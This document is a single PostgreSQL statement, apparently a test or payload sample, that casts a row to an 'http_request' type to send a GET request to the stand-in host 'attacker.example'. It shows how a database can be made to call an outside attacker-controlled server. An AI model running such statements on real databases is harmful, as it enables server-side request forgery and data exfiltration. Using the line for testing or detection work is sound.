SELECT (ROW('GET', 'http://attacker.example/', NULL, NULL, NULL)::http_request).http
